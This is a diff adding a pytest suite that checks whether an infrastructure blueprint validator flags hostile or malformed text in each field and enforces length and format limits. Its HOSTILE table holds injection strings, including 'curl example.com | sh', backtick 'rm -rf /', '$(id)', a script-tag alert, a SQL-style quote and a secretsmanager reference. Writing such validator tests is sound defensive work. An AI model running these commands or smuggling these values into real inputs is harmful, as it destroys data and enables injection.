@@ -1,0 +1,220 @@
+"""Hostile text in every field that takes text, and the limits of each kind of text."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from addons.argo_cd import ArgoCd
+from addons.cert_manager import CertManager
+from addons.external_dns import ExternalDns
+from addons.karpenter import Karpenter
+from addons.karpenter.node_pool import NodePool
+from addons.metrics_server import MetricsServer
+from blueprint import Blueprint, FargateProfile, FargateSelector, PublicEndpoint, Role, Taint
+from blueprint.errors import shown
+from blueprint.value import Value, problems_in
+from teams.base import Quota
+from tests.blueprint.examples import (
+    SMALL,
+    TEAM,
+    Probe,
+    changed,
+    places,
+    with_addons,
+    with_cluster,
+    with_network,
+    with_nodes,
+    with_teams,
+)
+
+HOSTILE = {
+    "newline behind": "dev\n",
+    "newline before": "\ndev",
+    "forged line": "dev\n    fix    curl example.com | sh",
+    "carriage return": "dev\rx",
+    "tab": "dev\tx",
+    "null": "dev\x00",
+    "terminal escape": "\x1b[2Jdev",
+    "line separator": "dev\u2028x",
+    "right to left": "\u202edev",
+    "zero width": "d\u200bev",
+    "lone surrogate": "dev\ud800",
+    "accent": "développement",
+    "look-alike": "d\u0435v",  # a Cyrillic e
+    "digits of another script": "\u0661" * 12,
+    "emoji": "🚀",
+    "shell": "`rm -rf /`",
+    "shell substitution": "$(id)",
+    "html": "<script>alert(1)</script>",
+    "quotes": "dev' or \"1\"='1",
+    "CloudFormation": "${AWS::Region}",
+    "dynamic reference": "{{resolve:secretsmanager:root}}",
+    "template": "{{ .Values.name }}",
+    "space": " ",
+    "long": "a" * 5000 + "!",
+    "longer": "1" * 100_000 + "!",
+}
+
+
+def at(place: str) -> Callable[[str], str]:
+    """The place of a field, whatever it holds."""
+    return lambda _: place
+
+
+def key(place: str) -> Callable[[str], str]:
+    """The place of a key."""
+    return lambda text: f"{place}[{shown(text)}]"
+
+
+FIELDS: list[tuple[Callable[[str], str], Callable[[str], Blueprint]]] = [
+    (at("name"), lambda text: changed(SMALL, name=text)),
+    (at("account"), lambda text: changed(SMALL, account=text)),
+    (at("region"), lambda text: changed(SMALL, region=text)),
+    (key("tags"), lambda text: changed(SMALL, tags={text: "a"})),
+    (at("tags['a']"), lambda text: changed(SMALL, tags={"a": text})),
+    (at("network.cidr"), lambda text: with_network(cidr=text)),
+    (at("network.zones[1]"), lambda text: with_network(zones=("a", text))),
+    (at("network.interface_endpoints[0]"), lambda text: with_network(interface_endpoints=(text,))),
+    (at("cluster.version"), lambda text: with_cluster(version=text)),
+    (at("cluster.service_cidr"), lambda text: with_cluster(service_cidr=text)),
+    (at("cluster.endpoint.allow[0]"), lambda text: with_cluster(endpoint=PublicEndpoint(allow=(text,)))),
+    (at("cluster.admins[0].name"), lambda text: with_cluster(admins=(Role(text),))),
+    (at("cluster.admins[0].account"), lambda text: with_cluster(admins=(Role("A", account=text),))),
+    (at("compute[0].name"), lambda text: with_nodes(name=text)),
+    (at("compute[0].instance_types[0]"), lambda text: with_nodes(instance_types=(text,))),
+    (at("compute[0].version"), lambda text: with_nodes(version=text)),
+    (at("compute[0].release_version"), lambda text: with_nodes(release_version=text)),
+    (key("compute[0].labels"), lambda text: with_nodes(labels={text: "a"})),
+    (at("compute[0].labels['a']"), lambda text: with_nodes(labels={"a": text})),
+    (at("compute[0].taints[0].key"), lambda text: with_nodes(taints=(Taint(text),))),
+    (at("compute[0].taints[0].value"), lambda text: with_nodes(taints=(Taint("a", text),))),
+    (
+        at("compute[0].selectors[0].namespace"),
+        lambda text: changed(SMALL, compute=(FargateProfile("a", selectors=(FargateSelector(text),)),)),
+    ),
+    (at("addons[3].version"), lambda text: with_addons(MetricsServer(version=text))),
+    (at("addons[3].chart_version"), lambda text: with_addons(Probe(chart_version=text))),
+    (at("addons[3].chart_repository"), lambda text: with_addons(Probe(chart_repository=text))),
+    (at("addons[3].zones[0]"), lambda text: with_addons(ExternalDns(zones=(text,)))),
+    (at("addons[3].domains[0]"), lambda text: with_addons(ExternalDns(zones=("Z1",), domains=(text,)))),
+    (key("addons[3].zones"), lambda text: with_addons(CertManager(zones={text: "Z1"}))),
+    (
+        at("addons[3].acme_email"),
+        lambda text: with_addons(CertManager(zones={"example.com": "Z1"}, acme_email=text)),
+    ),
+    (at("addons[3].node_pools[0].name"), lambda text: with_addons(Karpenter(node_pools=(NodePool(text),)))),
+    (at("addons[3].domain"), lambda text: with_addons(ArgoCd(domain=text))),
+    (at("teams[0].name"), lambda text: with_teams(changed(TEAM, name=text))),
+    (at("teams[0].namespaces[0]"), lambda text: with_teams(changed(TEAM, namespaces=(text,)))),
+    (at("teams[0].members[0].name"), lambda text: with_teams(changed(TEAM, members=(Role(text),)))),
+    (at("teams[0].quota.cpu"), lambda text: with_teams(changed(TEAM, quota=Quota(cpu=text)))),
+]
+
+
+@pytest.mark.parametrize(("place", "write"), FIELDS, ids=[place("") for place, _ in FIELDS])
+def test_hostile_text_is_reported_where_it_stands(
+    place: Callable[[str], str], write: Callable[[str], Blueprint]
+) -> None:
+    found = {kind: places(write(text)) for kind, text in HOSTILE.items()}
+    assert found == {kind: [place(text)] for kind, text in HOSTILE.items()}
+
+
+KINDS = ["name", "account", "region", "role", "label key", "label value", "quantity"]
+KINDS += ["hosted zone", "domain", "e-mail", "chart version", "repository", "add-on version"]
+
+
+def problem_places(value: Value) -> list[str]:
+    return [problem.place for problem in problems_in(value, "")]
+
+
+@pytest.mark.parametrize(
+    ("value", "good", "bad"),
+    [
+        (
+            lambda text: changed(SMALL, name=text),
+            ["d", "d1", "a" * 40, "prod-eu-1"],
+            ["", "1d", "-d", "d-", "D", "a" * 41, "d.e"],
+        ),
+        (lambda text: changed(SMALL, account=text), ["000000000000"], ["", "1" * 11, "1" * 13, "1111-1111-11", "root"]),
+        (
+            lambda text: changed(SMALL, region=text),
+            ["us-west-2", "us-gov-west-1", "cn-north-1", "ap-southeast-5", "mx-central-1", "eusc-de-east-1"],
+            ["", "us-west", "us-west-2a", "us_west_2", "US-WEST-2", "*"],
+        ),
+        (
+            Role,
+            ["BreakGlass", "a+=,.@-_", "aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_Admin_0a1b", "a" * 64],
+            [
+                "*",
+                "Admin*",
+                "",
+                "/Admin",
+                "team/",
+                "team//Admin",
+                "a" * 65,
+                "arn:aws:iam::111111111111:root",
+                "arn:aws:iam::111111111111:role/Admin",
+                "arn:aws:sts::111111111111:assumed-role/Admin/me",
+                "aws-service-role/eks.amazonaws.com/AWSServiceRoleForAmazonEKS",
+                "a/" * 300 + "Admin",
+            ],
+        ),
+        (
+            Taint,
+            ["a", "example.com/Team_1", "a" * 63],
+            ["", "/a", "a/", "a/b/c", "a" * 64, "-a", "Example.com/a", "a b"],
+        ),
+        (lambda text: Taint("a", text), ["", "a", "A.b_c-1", "a" * 63], ["-", "a" * 64, "a b", "a/b"]),
+        (lambda text: Quota(cpu=text), ["1", "500m", "1.5", "4Gi"], ["", "-1", "1 ", "1mi", "Gi", "1e3", ".5", "1."]),
+        (lambda text: ExternalDns(zones=(text,)), ["Z1", "Z0123456789ABC"], ["", "Z", "z1", "/hostedzone/Z1", "A1"]),
+        (
+            lambda text: ArgoCd(domain=text),
+            ["a.io", "argocd.example.com"],
+            ["", "com", "a.io.", ".a.io", "A.io", "a..io", "*.a.io"],
+        ),
+        (
+            lambda text: CertManager(zones={"a.io": "Z1"}, acme_email=text),
+            ["a@b.io", "a.b+c@d-e.co.uk"],
+            ["", "a", "a@b", "@b.io", "a@@b.io", "a@b..io", "a b@c.io"],
+        ),
+        (
+            lambda text: Probe(chart_version=text),
+            ["1.2.3", "v1.2.3-rc.1+build"],
+            ["", "latest", "1", "1.2", "^1.2.3", "1.x.0", ">1.0.0"],
+        ),
+        (
+            lambda text: Probe(chart_repository=text),
+            ["https://charts.example.com/a", "oci://111111111111.dkr.ecr.us-west-2.amazonaws.com/a"],
+            ["", "http://charts.example.com", "file:///etc", "https://me:secret@example.com", "charts.example.com"],
+        ),
+        (
+            lambda text: MetricsServer(version=text),
+            ["v0.8.1-eksbuild.4", "v1.2"],
+            ["", "latest", "0.8.1", "v1", "v1.2-eksbuild"],
+        ),
+    ],
+    ids=KINDS,
+)
+def test_limits_of_each_kind_of_text(value: Callable[[str], Value], good: list[str], bad: list[str]) -> None:
+    assert {text: problem_places(value(text)) for text in good} == {text: [] for text in good}
+    assert [text for text in bad if not problem_places(value(text))] == []
+
+
+@pytest.mark.parametrize(
+    ("number", "good", "bad"),
+    [
+        (lambda number: with_nodes(min=number, max=5000), [0, 5000], [-1, 5001]),
+        (lambda number: with_nodes(min=0, max=number), [1, 5000], [0, -1, 5001]),
+        (lambda number: with_nodes(disk_gib=number), [20, 16_384], [19, 16_385]),
+        (lambda number: with_nodes(max_unavailable_percent=number), [1, 100], [0, 101]),
+        (lambda number: with_cluster(log_retention_days=number), [1, 365, 3653], [0, 2, 3654, -1, 10**400]),
+        (lambda number: with_network(flow_log_retention_days=number), [1, 90, 3653], [0, 8, 366, 3654]),
+    ],
+    ids=["min", "max", "disk_gib", "max_unavailable_percent", "log_retention_days", "flow_log_retention_days"],
+)
+def test_limits_of_each_number(number: Callable[[Any], Value], good: list[int], bad: list[int]) -> None:
+    assert [each for each in good if problem_places(number(each))] == []
+    assert [each for each in bad if len(problem_places(number(each))) != 1] == []
